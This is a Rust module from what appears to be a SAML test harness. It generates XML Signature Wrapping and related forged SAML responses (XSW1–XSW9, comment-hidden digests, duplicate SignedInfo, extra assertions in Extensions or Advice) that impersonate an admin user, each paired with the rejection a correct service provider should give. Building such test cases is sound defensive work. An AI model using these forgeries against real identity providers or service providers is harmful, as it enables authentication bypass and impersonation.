//! XML Signature Wrapping: a genuinely signed element is kept (so its signature still
//! verifies) while a forged one is put where an SP reads. XSW1–XSW8 follow Somorovsky et al.,
//! "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), in the exact shapes
//! SAML Raider builds; the rest come from later CVEs.
//!
//! The forged ("evil") copies describe admin@acme-support.example: every text equal to the
//! user's NameID (the NameID and attributes repeating it, such as the email) is replaced, as
//! SAML Raider's "evil subject" does. Fixed IDs mark them: `_evil_response_ID` and
//! `_evil_assertion_ID`, as SAML Raider names them.
//!
//! XSW1–2 rely on the Response signature, so their signing hook makes sure the Response is
//! signed (the assertion as the profile says). The assertion attacks rely on the Assertion
//! signature and leave the Response unsigned: an attacker who rearranges a signed Response
//! breaks its signature, so the attack targets SPs that accept a signed assertion alone. A
//! correct SP rejects them all: one Assertion and one Signature per signed element, no
//! duplicate IDs, the Reference resolving to the very element consumed, and identity read only
//! from what was verified.

use super::signature::{
    child_index, first_assertion_index, first_assertion_mut, make_evil, own_signature_mut,
    resign_response, signer, take_own_signature,
};
use super::{Expected, Family, Scenario, SigningPlan, TamperContext};
use crate::saml::dsig::{self, DsigError};
use crate::saml::ns;
use crate::saml::xml::{Element, Name, Node};

const EVIL_RESPONSE_ID: &str = "_evil_response_ID";
const EVIL_ASSERTION_ID: &str = "_evil_assertion_ID";
/// The ID of the second, genuinely signed assertion of `multiple-assertions`.
const SECOND_ASSERTION_ID: &str = "_second_assertion_ID";
/// The ID of the assertion nested in Advice.
const ADVICE_ASSERTION_ID: &str = "_advice_assertion_ID";

pub const ALL: &[Scenario] = &[
    Scenario {
        signing: Some(sign_response),
        tamper: Some(xsw1),
        ..Scenario::new(
            "xsw1",
            Family::Wrapping,
            "XSW1: original Response inside the Signature",
            "Relies on the Response signature. The root becomes an evil copy of the Response (ID _evil_response_ID, the assertion describing admin@acme-support.example, the assertion's own signature removed); the original Response, without its signature, is appended inside the root's ds:Signature. The Reference #<response ID> still finds the original, whose digest matches. An SP that resolves the Reference by ID anywhere but reads the root logs in the admin.",
            "Somorovsky et al. 2012, XSW1; SAML Raider XSW1; saml-core 5.4.2",
            Expected::Reject("the signature does not cover the root Response: its Reference resolves to a copy hidden inside the Signature"),
        )
    },
    Scenario {
        signing: Some(sign_response),
        tamper: Some(xsw2),
        ..Scenario::new(
            "xsw2",
            Family::Wrapping,
            "XSW2: original Response before the Signature",
            "As XSW1 (relies on the Response signature), but the original Response, without its signature, is inserted as a sibling just before the root's ds:Signature, as a detached signature would sit.",
            "Somorovsky et al. 2012, XSW2; SAML Raider XSW2; saml-core 5.4.2",
            Expected::Reject("the signature does not cover the root Response: its Reference resolves to an embedded copy"),
        )
    },
    Scenario {
        signing: Some(sign_assertion_only),
        tamper: Some(xsw3),
        ..Scenario::new(
            "xsw3",
            Family::Wrapping,
            "XSW3: evil assertion before the signed one",
            "Relies on the Assertion signature (the Response is unsigned). An evil copy of the assertion (ID _evil_assertion_ID, no signature) is inserted before the signed one. An SP that verifies the signed assertion but reads the first Assertion logs in the admin.",
            "Somorovsky et al. 2012, XSW3; SAML Raider XSW3",
            Expected::Reject("two assertions, and the first one is unsigned"),
        )
    },
    Scenario {
        signing: Some(sign_assertion_only),
        tamper: Some(xsw4),
        ..Scenario::new(
            "xsw4",
            Family::Wrapping,
            "XSW4: signed assertion nested inside the evil one",
            "Relies on the Assertion signature (the Response is unsigned). An evil copy (ID _evil_assertion_ID, no signature) is appended to the Response and the signed original is moved inside it, as its last child. The signed assertion still verifies where it is; an SP that reads the top-level assertion logs in the admin.",
            "Somorovsky et al. 2012, XSW4; SAML Raider XSW4",
            Expected::Reject("the assertion consumed is unsigned; the signed one is nested inside it"),
        )
    },
    Scenario {
        signing: Some(sign_assertion_only),
        tamper: Some(xsw5),
        ..Scenario::new(
            "xsw5",
            Family::Wrapping,
            "XSW5: evil assertion keeps the signature, original appended",
            "Relies on the Assertion signature (the Response is unsigned). The assertion in place gets evil values and the ID _evil_assertion_ID but keeps its ds:Signature; a clean copy of the original (original ID, no signature) is appended at the end of the Response. The signature verifies over the copy found by ID; an SP that reads the assertion holding the signature logs in the admin.",
            "Somorovsky et al. 2012, XSW5; SAML Raider XSW5",
            Expected::Reject("the signature inside the consumed assertion references another element"),
        )
    },
    Scenario {
        signing: Some(sign_assertion_only),
        tamper: Some(xsw6),
        ..Scenario::new(
            "xsw6",
            Family::Wrapping,
            "XSW6: original assertion inside the evil one's Signature",
            "As XSW5 (relies on the Assertion signature), but the clean copy of the original is placed inside the ds:Signature of the evil assertion.",
            "Somorovsky et al. 2012, XSW6; SAML Raider XSW6",
            Expected::Reject("the signature inside the consumed assertion references a copy hidden inside the Signature"),
        )
    },
    Scenario {
        signing: Some(sign_assertion_only),
        tamper: Some(xsw7),
        ..Scenario::new(
            "xsw7",
            Family::Wrapping,
            "XSW7: evil copy with the same ID in an Extensions element",
            "Relies on the Assertion signature (the Response is unsigned). An Extensions element in no namespace is inserted before the signed assertion; it holds an evil copy with the same ID and no signature. An SP whose ID lookup lands on the signed original (the last match wins, or the lookup starts from the signature) while it reads the first Assertion in document order logs in the admin.",
            "Somorovsky et al. 2012, XSW7; SAML Raider XSW7",
            Expected::Reject("duplicate IDs: two elements carry the signed assertion's ID"),
        )
    },
    Scenario {
        signing: Some(sign_assertion_only),
        tamper: Some(xsw8),
        ..Scenario::new(
            "xsw8",
            Family::Wrapping,
            "XSW8: original assertion in an Object inside the Signature",
            "Relies on the Assertion signature (the Response is unsigned). The assertion in place gets evil values but keeps its ID and signature; a clean copy of the original (same ID, no signature) sits in an Object element (no namespace) appended to the ds:Signature. A verifier that finds the ID inside the Signature verifies the clean copy; the SP reads the evil one.",
            "Somorovsky et al. 2012, XSW8; SAML Raider XSW8",
            Expected::Reject("duplicate IDs, and the consumed assertion does not match its signature"),
        )
    },
    Scenario {
        signing: Some(sign_assertion_only),
        tamper: Some(xsw_extensions),
        ..Scenario::new(
            "xsw-extensions",
            Family::Wrapping,
            "Signed assertion hidden in samlp:Extensions",
            "Relies on the Assertion signature (the Response is unsigned). The genuine signed assertion is moved into a real samlp:Extensions; at the top level sits a forged assertion with the same ID, evil values and a byte-for-byte copy of the genuine ds:Signature. An SP that validates the first Signature in the document and reads the top-level Assertion logs in the admin.",
            "OneUptime #2949; saml-core 3.2.1 (Extensions)",
            Expected::Reject("duplicate IDs: the signed assertion is hidden in Extensions and the one consumed does not match its signature"),
        )
    },
    Scenario {
        signing: Some(sign_assertion_only),
        tamper: Some(xsw_assertion_after),
        ..Scenario::new(
            "xsw-assertion-after",
            Family::Wrapping,
            "Evil assertion after the signed one",
            "Relies on the Assertion signature (the Response is unsigned). An evil copy (ID _evil_assertion_ID, no signature) is appended after the intact signed assertion. An SP that checks only the first assertion's signature and reads the last one, or every one, logs in the admin.",
            "SAML Raider issue #59 (XSW10); Lasso CVE-2021-28091",
            Expected::Reject("two assertions, and the second one is unsigned"),
        )
    },
    Scenario {
        signing: Some(sign_assertion_only),
        tamper: Some(duplicate_signed_info),
        ..Scenario::new(
            "duplicate-signed-info",
            Family::Wrapping,
            "Two SignedInfo elements (XSW9)",
            "Relies on the Assertion signature (the Response is unsigned). The assertion in place becomes the evil one (ID _evil_assertion_ID). Its ds:Signature holds the genuine SignedInfo (referencing the original ID), then an attacker SignedInfo whose Reference names the evil assertion with its correct digest, then the genuine SignatureValue. The original assertion, without signature, is appended in a Wrapper element. A library that checks the SignatureValue against one SignedInfo and the References of the other accepts the evil assertion.",
            "xmlseclibs CVE-2019-3465 (SimpleSAMLphp 201911-01); xml-crypto CVE-2025-29774; SAML Raider applyXSW9",
            Expected::Reject("a Signature must have exactly one SignedInfo, and it must reference the assertion that holds it"),
        )
    },
    Scenario {
        tamper: Some(digest_comment),
        ..Scenario::new(
            "digest-comment",
            Family::Wrapping,
            "Forged digest hidden in a comment inside DigestValue",
            "The response is signed normally, then the assertion is changed to describe admin@acme-support.example. Each signature's DigestValue keeps the genuine value but gains, before it, a comment holding the digest of the forged content: <ds:DigestValue><!--forged-->genuine</ds:DigestValue>. Canonicalisation drops comments, so each SignatureValue still verifies over its SignedInfo. A library that reads the DigestValue's first child finds the forged digest and accepts; one that reads the element's text finds the genuine digest, which no longer matches.",
            "xml-crypto CVE-2025-29775 (fixture valid_saml_with_digest_comment.xml)",
            Expected::Reject("the digest does not match: the DigestValue's text is the genuine digest, and the content was changed"),
        )
    },
    Scenario {
        signing: Some(sign_assertion_too),
        tamper: Some(second_signed_assertion),
        ..Scenario::new(
            "multiple-assertions",
            Family::Wrapping,
            "Two signed assertions for different subjects",
            "The IdP's key signs two assertions, the user's and a second one (ID _second_assertion_ID) for admin@acme-support.example, and the Response over both when the profile signs it. Every signature is valid. The Web SSO profile requires every assertion in a Response to be about the same principal; an SP that takes the first, or the last, logs in someone.",
            "saml-profiles 4.1.4.2 (each assertion's Subject MUST refer to the same principal); python3-saml WRONG_NUMBER_OF_ASSERTIONS; node-saml \"Invalid signature: multiple assertions\"; crewjam CVE-2022-41912",
            Expected::Reject("more than one assertion, and for different subjects"),
        )
    },
    Scenario {
        tamper: Some(advice_assertion),
        ..Scenario::new(
            "advice-assertion",
            Family::Wrapping,
            "Assertion for another user nested in Advice",
            "The user's assertion carries a saml:Advice holding a second assertion (ID _advice_assertion_ID, unsigned) for admin@acme-support.example. The IdP signs the outer assertion with the Advice in it, and the Response, so every signature is valid. Advice is information an SP MAY ignore; it never names who logs in. An SP that looks for assertions or attributes anywhere in the document (//Assertion, //AttributeValue) picks up the nested one.",
            "saml-core 2.6.1 (Advice may be ignored without affecting the assertion's validity); python3-saml WRONG_NUMBER_OF_ASSERTIONS",
            Expected::Policy("a correct SP logs in the user of the outer assertion and ignores the Advice, or refuses any nested assertion (python3-saml counts every Assertion element); it never logs in admin@acme-support.example"),
        )
    },
];

fn sign_response(p: &mut SigningPlan) {
    p.response = true;
}

fn sign_assertion_only(p: &mut SigningPlan) {
    p.assertion = true;
    p.response = false;
}

fn sign_assertion_too(p: &mut SigningPlan) {
    p.assertion = true;
}

/// An element in no namespace, as SAML Raider creates its containers.
fn bare(local: &'static str) -> Element {
    Element::new(Name::local(local))
}

/// A copy of the Response as the attacker makes it for XSW1–2: the original without its own
/// signature, and the evil root, returned with the position of the root's signature.
fn split_response(doc: &mut Element, ctx: &TamperContext<'_>) -> Option<(Element, usize)> {
    let mut original = doc.clone();
    take_own_signature(&mut original)?;
    let at = super::signature::own_signature_index(doc)?;
    if let Some(a) = first_assertion_mut(doc) {
        take_own_signature(a);
        make_evil(a, ctx);
    }
    doc.set_attr("ID", EVIL_RESPONSE_ID);
    Some((original, at))
}

fn xsw1(doc: &mut Element, ctx: &TamperContext<'_>) -> Result<(), DsigError> {
    if let Some((original, at)) = split_response(doc, ctx) {
        if let Node::Element(sig) = &mut doc.children[at] {
            sig.children.push(Node::Element(original));
        }
    }
    Ok(())
}

fn xsw2(doc: &mut Element, ctx: &TamperContext<'_>) -> Result<(), DsigError> {
    if let Some((original, at)) = split_response(doc, ctx) {
        doc.children.insert(at, Node::Element(original));
    }
    Ok(())
}

/// The signed assertion in place, and an evil copy of it without signature and with
/// `evil_id` (when given).
fn evil_copy(doc: &Element, ctx: &TamperContext<'_>, evil_id: Option<&str>) -> Option<Element> {
    let mut evil = doc.first(ns::ASSERTION, "Assertion")?.clone();
    take_own_signature(&mut evil);
    make_evil(&mut evil, ctx);
    if let Some(id) = evil_id {
        evil.set_attr("ID", id);
    }
    Some(evil)
}

/// A clean copy of the original assertion: same ID, no signature.
fn clean_copy(doc: &Element) -> Option<Element> {
    let mut clean = doc.first(ns::ASSERTION, "Assertion")?.clone();
    take_own_signature(&mut clean);
    Some(clean)
}

fn xsw3(doc: &mut Element, ctx: &TamperContext<'_>) -> Result<(), DsigError> {
    if let (Some(evil), Some(at)) = (
        evil_copy(doc, ctx, Some(EVIL_ASSERTION_ID)),
        first_assertion_index(doc),
    ) {
        doc.children.insert(at, Node::Element(evil));
    }
    Ok(())
}

fn xsw4(doc: &mut Element, ctx: &TamperContext<'_>) -> Result<(), DsigError> {
    if let (Some(mut evil), Some(at)) = (
        evil_copy(doc, ctx, Some(EVIL_ASSERTION_ID)),
        first_assertion_index(doc),
    ) {
        let original = doc.children.remove(at);
        evil.children.push(original);
        doc.children.push(Node::Element(evil));
    }
    Ok(())
}

/// XSW5 and XSW6: the assertion in place turns evil under a new ID, keeping its signature.
fn evil_in_place(doc: &mut Element, ctx: &TamperContext<'_>) -> Option<Element> {
    let clean = clean_copy(doc)?;
    let a = first_assertion_mut(doc)?;
    make_evil(a, ctx);
    a.set_attr("ID", EVIL_ASSERTION_ID);
    Some(clean)
}

fn xsw5(doc: &mut Element, ctx: &TamperContext<'_>) -> Result<(), DsigError> {
    if let Some(clean) = evil_in_place(doc, ctx) {
        doc.children.push(Node::Element(clean));
    }
    Ok(())
}

/// The first ds:Signature child of the first assertion, whatever it references.
fn assertion_signature_mut(doc: &mut Element) -> Option<&mut Element> {
    let a = first_assertion_mut(doc)?;
    a.children.iter_mut().find_map(|n| match n {
        Node::Element(e) if e.name.is(ns::DSIG, "Signature") => Some(e),
        _ => None,
    })
}

fn xsw6(doc: &mut Element, ctx: &TamperContext<'_>) -> Result<(), DsigError> {
    if let Some(clean) = evil_in_place(doc, ctx) {
        if let Some(sig) = assertion_signature_mut(doc) {
            sig.children.push(Node::Element(clean));
        }
    }
    Ok(())
}

fn xsw7(doc: &mut Element, ctx: &TamperContext<'_>) -> Result<(), DsigError> {
    if let (Some(evil), Some(at)) = (evil_copy(doc, ctx, None), first_assertion_index(doc)) {
        doc.children
            .insert(at, Node::Element(bare("Extensions").child(evil)));
    }
    Ok(())
}

fn xsw8(doc: &mut Element, ctx: &TamperContext<'_>) -> Result<(), DsigError> {
    let Some(clean) = clean_copy(doc) else {
        return Ok(());
    };
    if let Some(a) = first_assertion_mut(doc) {
        make_evil(a, ctx);
    }
    if let Some(sig) = assertion_signature_mut(doc) {
        sig.children
            .push(Node::Element(bare("Object").child(clean)));
    }
    Ok(())
}

fn xsw_extensions(doc: &mut Element, ctx: &TamperContext<'_>) -> Result<(), DsigError> {
    let Some(at) = first_assertion_index(doc) else {
        return Ok(());
    };
    let Node::Element(original) = doc.children[at].clone() else {
        return Ok(());
    };
    if let Some(a) = first_assertion_mut(doc) {
        make_evil(a, ctx);
    }
    // saml-core 3.2.2: Issuer, Signature, Extensions, Status.
    let ext_at = child_index(doc, ns::ASSERTION, "Issuer").map_or(0, |i| i + 1);
    let extensions =
        Element::new(Name::prefixed("samlp", ns::PROTOCOL, "Extensions")).child(original);
    doc.children.insert(ext_at, Node::Element(extensions));
    Ok(())
}

fn xsw_assertion_after(doc: &mut Element, ctx: &TamperContext<'_>) -> Result<(), DsigError> {
    if let (Some(evil), Some(at)) = (
        evil_copy(doc, ctx, Some(EVIL_ASSERTION_ID)),
        first_assertion_index(doc),
    ) {
        doc.children.insert(at + 1, Node::Element(evil));
    }
    Ok(())
}

fn duplicate_signed_info(doc: &mut Element, ctx: &TamperContext<'_>) -> Result<(), DsigError> {
    let Some(clean) = clean_copy(doc) else {
        return Ok(());
    };
    let Some(a) = first_assertion_mut(doc) else {
        return Ok(());
    };
    let Some(mut sig) = take_own_signature(a) else {
        return Ok(());
    };
    make_evil(a, ctx);
    a.set_attr("ID", EVIL_ASSERTION_ID);
    let algorithms = ctx.plan.algorithms;
    let digest = dsig::digest(a, algorithms.digest)?;
    let forged = dsig::signed_info(
        algorithms.signature.uri(),
        [dsig::reference(
            &format!("#{EVIL_ASSERTION_ID}"),
            dsig::saml_transforms(),
            algorithms.digest,
            &digest,
        )],
    );
    // After the genuine SignedInfo, before the genuine SignatureValue.
    let at = child_index(&sig, ns::DSIG, "SignedInfo").map_or(0, |i| i + 1);
    sig.children.insert(at, Node::Element(forged));
    a.insert_after_first(ns::ASSERTION, "Issuer", sig);
    doc.children
        .push(Node::Element(bare("Wrapper").child(clean)));
    Ok(())
}

/// Puts a comment holding `digest` before the text of the DigestValue of `sig`.
fn comment_digest(sig: &mut Element, digest: &[u8]) {
    use base64::Engine as _;
    let value = sig
        .children
        .iter_mut()
        .find_map(|n| match n {
            Node::Element(e) if e.name.is(ns::DSIG, "SignedInfo") => Some(e),
            _ => None,
        })
        .and_then(|si| {
            si.children.iter_mut().find_map(|n| match n {
                Node::Element(e) if e.name.is(ns::DSIG, "Reference") => Some(e),
                _ => None,
            })
        })
        .and_then(|r| {
            r.children.iter_mut().find_map(|n| match n {
                Node::Element(e) if e.name.is(ns::DSIG, "DigestValue") => Some(e),
                _ => None,
            })
        });
    if let Some(dv) = value {
        let text = base64::engine::general_purpose::STANDARD.encode(digest);
        dv.children.insert(0, Node::Comment(text));
    }
}

/// The digest of `el` without its own signature, as the enveloped transform gives it.
fn enveloped_digest(el: &Element, ctx: &TamperContext<'_>) -> Result<Vec<u8>, DsigError> {
    let mut without = el.clone();
    take_own_signature(&mut without);
    dsig::digest(&without, ctx.plan.algorithms.digest)
}

fn digest_comment(doc: &mut Element, ctx: &TamperContext<'_>) -> Result<(), DsigError> {
    if let Some(a) = first_assertion_mut(doc) {
        make_evil(a, ctx);
        let forged = enveloped_digest(a, ctx)?;
        if let Some(sig) = own_signature_mut(a) {
            comment_digest(sig, &forged);
        }
    }
    // Comments are not in the canonical form, so the one just added does not count here.
    let forged = enveloped_digest(doc, ctx)?;
    if let Some(sig) = own_signature_mut(doc) {
        comment_digest(sig, &forged);
    }
    Ok(())
}

fn second_signed_assertion(doc: &mut Element, ctx: &TamperContext<'_>) -> Result<(), DsigError> {
    let (Some(second), Some(at)) = (
        evil_copy(doc, ctx, Some(SECOND_ASSERTION_ID)),
        first_assertion_index(doc),
    ) else {
        return Ok(());
    };
    doc.children.insert(at + 1, Node::Element(second));
    dsig::sign_enveloped(
        doc,
        SECOND_ASSERTION_ID,
        ctx.plan.algorithms,
        signer(ctx),
        ctx.plan.key_info,
    )?;
    resign_response(doc, ctx)?;
    Ok(())
}

fn advice_assertion(doc: &mut Element, ctx: &TamperContext<'_>) -> Result<(), DsigError> {
    let Some(nested) = evil_copy(doc, ctx, Some(ADVICE_ASSERTION_ID)) else {
        return Ok(());
    };
    let Some(a) = first_assertion_mut(doc) else {
        return Ok(());
    };
    let was_signed = take_own_signature(a).is_some();
    // saml-core 2.3.3: Issuer, Signature, Subject, Conditions, Advice, statements.
    let at = ["Conditions", "Subject", "Issuer"]
        .iter()
        .find_map(|l| child_index(a, ns::ASSERTION, l))
        .map_or(0, |i| i + 1);
    let advice = Element::new(Name {
        local: "Advice".into(),
        ..a.name.clone()
    })
    .child(nested);
    a.children.insert(at, Node::Element(advice));
    if was_signed {
        let id = a.attribute("ID").unwrap_or_default().to_owned();
        dsig::sign_enveloped(
            doc,
            &id,
            ctx.plan.algorithms,
            signer(ctx),
            ctx.plan.key_info,
        )?;
    }
    resign_response(doc, ctx)?;
    Ok(())
}

#[cfg(test)]
#[path = "tests/wrapping.rs"]
mod tests;
